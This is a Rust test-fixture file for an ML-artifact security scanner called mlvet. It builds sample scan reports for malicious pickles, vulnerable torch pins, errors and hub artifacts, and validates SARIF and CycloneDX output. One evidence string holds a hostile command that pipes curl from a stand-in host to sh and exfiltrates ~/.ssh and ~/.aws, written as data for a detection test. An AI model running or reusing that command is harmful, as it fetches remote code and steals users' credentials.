//! Scan reports shared by the integration tests: each one models a realistic scan outcome.
#![allow(dead_code)] // Each test binary uses a different subset.

use mlvet_core::{
    AdvisoryRef, ArtifactKind, ArtifactOrigin, ArtifactReport, Confidence, DatabaseInfo, Finding,
    InventoryPackage, Location, PackageRef, RuleMeta, ScanError, ScanReport, Severity, SourceRef,
    Suppression, SuppressionKind, Verdict,
};
use mlvet_report::{RunMeta, TerminalOptions};

pub static DANGEROUS_CALLABLE: RuleMeta = RuleMeta {
    id: "pickle-dangerous-callable",
    category: "pickle",
    summary: "The pickle calls a callable that can run code when loaded.",
    default_severity: Severity::Critical,
    verdict: Verdict::Malicious,
    docs: "",
};

pub static UNKNOWN_GLOBAL: RuleMeta = RuleMeta {
    id: "pickle-unknown-global",
    category: "pickle",
    summary: "The pickle imports a global that is on neither the allow nor the deny list.",
    default_severity: Severity::Medium,
    verdict: Verdict::Suspicious,
    docs: "",
};

pub static KNOWN_VULNERABILITY: RuleMeta = RuleMeta {
    id: "dependency-known-vulnerability",
    category: "dependency",
    summary: "A dependency version is affected by a published advisory.",
    default_severity: Severity::High,
    verdict: Verdict::Vulnerable,
    docs: "",
};

pub fn meta(fail_on: Option<Severity>) -> RunMeta {
    RunMeta {
        tool_version: "0.1.0".to_string(),
        inputs: vec!["models".to_string(), "requirements.txt".to_string()],
        fail_on,
        duration_ms: None,
    }
}

pub fn plain() -> TerminalOptions {
    TerminalOptions {
        color: false,
        verbose: false,
        quiet: false,
        width: Some(80),
    }
}

pub fn safe_artifact(path: &str) -> ArtifactReport {
    ArtifactReport::new(
        path.to_string(),
        "safetensors".to_string(),
        2048,
        true,
        vec![],
    )
}

/// A torch checkpoint, nested in a tar, whose pickle calls `os.system`.
pub fn malicious_finding() -> Finding {
    let location = Location::file("models/bundle.tar")
        .member("weights.zip")
        .member("archive/data.pkl")
        .with_opcode(7, 42);
    Finding::new(&DANGEROUS_CALLABLE, location, "Loading this file calls os.system, which runs a shell command.")
        .evidence("callable", "os.system")
        .evidence(
            "arguments",
            "('curl -fsSL https://payload.invalid/stage2.sh | sh -s -- --quiet --persist --exfiltrate ~/.ssh ~/.aws',)",
        )
        .remediation("Do not load this file. Delete it and obtain the model from a trusted source, preferably as safetensors.")
}

pub fn unknown_global_finding() -> Finding {
    let location = Location::file("models/bundle.tar")
        .member("weights.zip")
        .member("archive/data.pkl")
        .with_opcode(3, 18);
    Finding::new(
        &UNKNOWN_GLOBAL,
        location,
        "The pickle imports mymodule.Helper, which mlvet does not know.",
    )
    .confidence(Confidence::Medium)
    .evidence("global", "mymodule.Helper")
}

pub fn malicious_report() -> ScanReport {
    let bundle = ArtifactReport::new(
        "models/bundle.tar".to_string(),
        "tar".to_string(),
        1_572_864,
        true,
        vec![unknown_global_finding(), malicious_finding()],
    );
    let mut report = ScanReport {
        artifacts: vec![safe_artifact("models/encoder.safetensors"), bundle],
        errors: vec![],
        database: Some(DatabaseInfo {
            source: "pypa-advisory-database".to_string(),
            records: 4821,
            updated: Some("2025-06-01T00:00:00Z".to_string()),
            stale: false,
        }),
        warnings: vec![],
        packages: vec![],
    };
    report.sort();
    report
}

/// `torch==1.13.0` pinned in requirements.txt, hit by a real advisory (PYSEC-2022-43015).
pub fn vulnerability_finding() -> Finding {
    let package = PackageRef {
        ecosystem: "PyPI".to_string(),
        name: "torch".to_string(),
        version: Some("1.13.0".to_string()),
        requirement: None,
        markers: Some("python_version >= \"3.8\"".to_string()),
        source: SourceRef {
            file: "requirements.txt".to_string(),
            line: Some(3),
        },
        ml: true,
    };
    let advisory = AdvisoryRef {
        id: "PYSEC-2022-43015".to_string(),
        aliases: vec!["CVE-2022-45907".to_string(), "GHSA-47fc-vmwq-366v".to_string()],
        summary: Some("torch.jit.annotations.parse_type_line can cause arbitrary code execution because eval is used unsafely.".to_string()),
        fixed: Some("1.13.1".to_string()),
        severity: Some(Severity::Critical),
        cvss_score: Some(9.8),
        cvss_vector: Some("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H".to_string()),
        published: Some("2022-11-26T02:15:00Z".to_string()),
        modified: Some("2023-05-04T03:49:48.383740Z".to_string()),
        affected_allowed: None,
    };
    Finding::new(&KNOWN_VULNERABILITY, Location::file("requirements.txt").with_line(3), "torch 1.13.0 is affected by PYSEC-2022-43015 (arbitrary code execution through eval in parse_type_line).")
        .severity(Severity::Critical)
        .package(package)
        .advisory(advisory)
        .remediation("Upgrade torch to 1.13.1 or later.")
}

pub fn vulnerability_report() -> ScanReport {
    let requirements = ArtifactReport::new(
        "requirements.txt".to_string(),
        "requirements".to_string(),
        212,
        true,
        vec![vulnerability_finding()],
    )
    .with_kind(ArtifactKind::Dependencies);
    ScanReport {
        artifacts: vec![requirements],
        errors: vec![],
        database: Some(DatabaseInfo {
            source: "pypa-advisory-database".to_string(),
            records: 4821,
            updated: Some("2025-06-01T00:00:00Z".to_string()),
            stale: false,
        }),
        warnings: vec![],
        packages: vec![],
    }
}

/// Two unreadable paths, a partially inspected archive and no advisory database.
pub fn errors_report() -> ScanReport {
    let partial = ArtifactReport::new(
        "models/archive.7z".to_string(),
        "7z".to_string(),
        9000,
        false,
        vec![],
    );
    ScanReport {
        artifacts: vec![
            partial,
            safe_artifact("models/a.safetensors"),
            safe_artifact("models/b.safetensors"),
        ],
        errors: vec![
            ScanError {
                path: "models/vanished.pt".to_string(),
                message: "no such file or directory".to_string(),
            },
            ScanError {
                path: "models/locked.pt".to_string(),
                message: "permission denied (os error 13)".to_string(),
            },
        ],
        database: None,
        warnings: vec!["no advisory database: vulnerabilities NOT checked".to_string()],
        packages: vec![],
    }
}

/// Everything at once, with every optional field set: used to check the docs and the schema
/// cover every field the JSON can contain.
pub fn full_report() -> ScanReport {
    let mut report = malicious_report();
    let mut vulnerable = vulnerability_report();
    report.artifacts.append(&mut vulnerable.artifacts);
    let mut unpinned = vulnerability_finding();
    if let Some(package) = unpinned.package.as_mut() {
        package.version = None;
        package.requirement = Some("torch>=1.12".to_string());
        package.source = SourceRef {
            file: "pyproject.toml".to_string(),
            line: Some(12),
        };
    }
    unpinned.message = "torch>=1.12 allows versions affected by PYSEC-2022-43015.".to_string();
    if let Some(advisory) = unpinned.advisory.as_mut() {
        advisory.affected_allowed = Some(">=1.12, <1.13.1".to_string());
    }
    unpinned.location = Location::file("pyproject.toml").with_line(12);
    report.artifacts.push(
        ArtifactReport::new(
            "pyproject.toml".to_string(),
            "pyproject".to_string(),
            800,
            true,
            vec![unpinned],
        )
        .with_kind(ArtifactKind::Dependencies),
    );
    report.errors = errors_report().errors;
    report.warnings = vec!["advisory database is older than 30 days".to_string()];
    // 1.1: a hashed model from a hub repository, a dataset file, the inventory and a suppression.
    report.artifacts.push(hub_model());
    report.artifacts.push(hub_dataset());
    report.packages = inventory_packages();
    report.artifacts.push(suppressed_vulnerability_artifact());
    report.sort();
    report
}

pub const HUB_COMMIT: &str = "5f2e0c8d9b7a6e4f3c2b1a0d9e8f7a6b5c4d3e2f";

/// A safetensors checkpoint of `example-org/tiny-llama`, hashed, with the parser's metadata.
pub fn hub_model() -> ArtifactReport {
    let mut model = safe_artifact("hub/model.safetensors")
        .with_origin(ArtifactOrigin {
            hub: "huggingface".to_string(),
            repo_type: "model".to_string(),
            repo_id: "example-org/tiny-llama".to_string(),
            revision: Some(HUB_COMMIT.to_string()),
            path_in_repo: Some("model.safetensors".to_string()),
        })
        .with_metadata("architecture", "LlamaForCausalLM")
        .with_metadata("model_type", "llama")
        .with_metadata("task", "text-generation")
        .with_metadata("license", "apache-2.0")
        .with_metadata("parameters", "1100048384")
        .with_metadata("dtype", "BF16");
    model.sha256 =
        Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".to_string());
    model
}

/// A parquet shard of a dataset repository (its revision is a branch name, not a commit).
pub fn hub_dataset() -> ArtifactReport {
    ArtifactReport::new(
        "hub/train.parquet".to_string(),
        "parquet".to_string(),
        4096,
        true,
        vec![],
    )
    .with_origin(ArtifactOrigin {
        hub: "huggingface".to_string(),
        repo_type: "dataset".to_string(),
        repo_id: "example-org/tiny-corpus".to_string(),
        revision: Some("main".to_string()),
        path_in_repo: None,
    })
}

/// The packages of requirements.txt and uv.lock, with one dependency edge.
pub fn inventory_packages() -> Vec<InventoryPackage> {
    let torch = InventoryPackage {
        id: "pkg:pypi/torch@1.13.0|requirements.txt:3".to_string(),
        ecosystem: "PyPI".to_string(),
        name: "torch".to_string(),
        version: Some("1.13.0".to_string()),
        requirement: None,
        markers: Some("python_version >= \"3.8\"".to_string()),
        scope: None,
        purl: Some("pkg:pypi/torch@1.13.0".to_string()),
        direct_url: None,
        source: SourceRef {
            file: "requirements.txt".to_string(),
            line: Some(3),
        },
        ml: true,
        depends_on: vec![],
        direct: None,
    };
    let transformers = InventoryPackage {
        id: "pkg:pypi/transformers@4.30.0|uv.lock:10".to_string(),
        name: "transformers".to_string(),
        version: Some("4.30.0".to_string()),
        purl: Some("pkg:pypi/transformers@4.30.0".to_string()),
        source: SourceRef {
            file: "uv.lock".to_string(),
            line: Some(10),
        },
        depends_on: vec!["pkg:pypi/numpy@1.26.0|uv.lock:20".to_string()],
        ..torch.clone()
    };
    let numpy = InventoryPackage {
        id: "pkg:pypi/numpy@1.26.0|uv.lock:20".to_string(),
        name: "numpy".to_string(),
        version: Some("1.26.0".to_string()),
        purl: Some("pkg:pypi/numpy@1.26.0".to_string()),
        markers: None,
        source: SourceRef {
            file: "uv.lock".to_string(),
            line: Some(20),
        },
        ml: false,
        ..torch.clone()
    };
    let extra = InventoryPackage {
        id: "PyPI/accelerate|pyproject.toml:14".to_string(),
        name: "accelerate".to_string(),
        version: None,
        requirement: Some(">=0.20".to_string()),
        markers: Some("extra == \"gpu\"".to_string()),
        scope: Some("optional".to_string()),
        purl: None,
        direct_url: Some("git+https://git.example.invalid/accelerate@v0.20.0".to_string()),
        source: SourceRef {
            file: "pyproject.toml".to_string(),
            line: Some(14),
        },
        ..torch.clone()
    };
    vec![torch, transformers, numpy, extra]
}

/// `transformers==4.30.0` in uv.lock, hit by an advisory a VEX statement declares not affecting.
pub fn suppressed_vulnerability_artifact() -> ArtifactReport {
    let mut finding = vulnerability_finding();
    finding.location = Location::file("uv.lock").with_line(10);
    if let Some(package) = finding.package.as_mut() {
        package.name = "transformers".to_string();
        package.version = Some("4.30.0".to_string());
        package.markers = None;
        package.source = SourceRef {
            file: "uv.lock".to_string(),
            line: Some(10),
        };
    }
    if let Some(advisory) = finding.advisory.as_mut() {
        advisory.id = "GHSA-example-vex".to_string();
        advisory.aliases = vec!["CVE-2024-0001".to_string()];
        advisory.cvss_vector = Some("CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H".to_string());
    }
    finding.message = "transformers 4.30.0 is affected by GHSA-example-vex.".to_string();
    finding.suppression = Some(Suppression {
        kind: SuppressionKind::Vex,
        reason: "vulnerable_code_not_in_execute_path: the pipeline never calls the affected loader"
            .to_string(),
        source: Some("security/mlvet.openvex.json".to_string()),
    });
    let mut artifact = ArtifactReport::new(
        "uv.lock".to_string(),
        "uv-lock".to_string(),
        4000,
        true,
        vec![finding],
    )
    .with_kind(ArtifactKind::Dependencies);
    artifact.refresh_verdict();
    artifact
}

/// Compares rendered output with the expected text and shows both in full on mismatch.
#[track_caller]
pub fn assert_text(actual: &str, expected: &str) {
    if actual != expected {
        panic!(
            "rendered output differs\n--- expected ---\n{expected}\n--- actual ---\n{actual}\n--- end ---"
        );
    }
}

/// The example in `docs/json-report.md`: a malicious checkpoint, a safe model and a vulnerable pin.
pub fn doc_example() -> ScanReport {
    let mut report = malicious_report();
    report
        .artifacts
        .append(&mut vulnerability_report().artifacts);
    report.sort();
    report
}

/// The shared schemas folder beside the repository (`../shared/schemas`).
pub fn shared_schema(name: &str) -> serde_json::Value {
    let path = format!(
        "{}/../../../shared/schemas/{name}",
        env!("CARGO_MANIFEST_DIR")
    );
    let text =
        std::fs::read_to_string(&path).unwrap_or_else(|err| panic!("cannot read {path}: {err}"));
    serde_json::from_str(&text).unwrap_or_else(|err| panic!("{path} is not JSON: {err}"))
}

/// Validates `document` against the SARIF 2.1.0 schema, formats included, and checks every URI
/// is a well-formed URI reference.
///
/// The published schema's `language` pattern `^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$` ends in
/// an unmatched `]`, a literal in ECMA-262 regexes but an error for Rust's regex engine; it is
/// escaped (`\\]`, the same language) before the schema is compiled.
#[track_caller]
pub fn assert_valid_sarif(document: &serde_json::Value) {
    assert_uri_references(document);
    let path = format!(
        "{}/../../../shared/schemas/sarif-2.1.0.schema.json",
        env!("CARGO_MANIFEST_DIR")
    );
    let text = std::fs::read_to_string(&path)
        .unwrap_or_else(|err| panic!("cannot read {path}: {err}"))
        .replace("{2}]?$", "{2}\\\\]?$");
    let schema: serde_json::Value =
        serde_json::from_str(&text).unwrap_or_else(|err| panic!("{path} is not JSON: {err}"));
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .unwrap_or_else(|err| panic!("SARIF schema does not compile: {err}"));
    let errors: Vec<String> = validator
        .iter_errors(document)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(
        errors.is_empty(),
        "invalid SARIF: {errors:#?}\n{document:#}"
    );
}

/// Validates `document` against the CycloneDX 1.6 schema (with the SPDX and JSF schemas it
/// references, offline), formats included.
#[track_caller]
pub fn assert_valid_cyclonedx(document: &serde_json::Value) {
    let schema = shared_schema("bom-1.6.schema.json");
    let registry = jsonschema::Registry::new()
        .add(
            "http://cyclonedx.org/schema/spdx.schema.json",
            shared_schema("spdx.schema.json"),
        )
        .and_then(|r| {
            r.add(
                "http://cyclonedx.org/schema/jsf-0.82.schema.json",
                shared_schema("jsf-0.82.schema.json"),
            )
        })
        .and_then(|r| r.prepare())
        .unwrap_or_else(|err| panic!("cannot register the referenced schemas: {err}"));
    let validator = jsonschema::options()
        .with_registry(&registry)
        .should_validate_formats(true)
        .build(&schema)
        .unwrap_or_else(|err| panic!("CycloneDX schema does not compile: {err}"));
    let errors: Vec<String> = validator
        .iter_errors(document)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(
        errors.is_empty(),
        "invalid CycloneDX: {errors:#?}\n{document:#}"
    );
}

/// Every `uri` in a SARIF log is an RFC 3986 URI reference: printable ASCII without spaces, and
/// `%` only as the start of an escape.
#[track_caller]
pub fn assert_uri_references(value: &serde_json::Value) {
    match value {
        serde_json::Value::Object(map) => {
            for (key, child) in map {
                if key == "uri"
                    && let Some(uri) = child.as_str()
                {
                    let bytes = uri.as_bytes();
                    let escapes_ok = bytes.iter().enumerate().all(|(i, b)| {
                        *b != b'%'
                            || (bytes.get(i + 1).is_some_and(u8::is_ascii_hexdigit)
                                && bytes.get(i + 2).is_some_and(u8::is_ascii_hexdigit))
                    });
                    assert!(
                        !uri.is_empty()
                            && uri.bytes().all(|b| b.is_ascii_graphic())
                            && !uri.contains(['<', '>', '"', '{', '}', '|', '\\', '^', '`'])
                            && escapes_ok,
                        "not a URI reference: {uri:?}"
                    );
                }
                assert_uri_references(child);
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(assert_uri_references),
        _ => {}
    }
}
